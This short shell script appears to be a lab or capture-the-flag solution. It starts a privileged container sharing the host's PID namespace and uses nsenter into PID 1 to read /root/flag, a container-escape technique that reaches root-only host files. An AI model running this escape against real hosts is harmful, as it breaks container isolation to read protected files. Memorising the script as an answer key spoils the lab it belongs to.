#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
minibox run --rm --network none --userns host --privileged --pid host lab/box nsenter -t 1 -m cat /root/flag
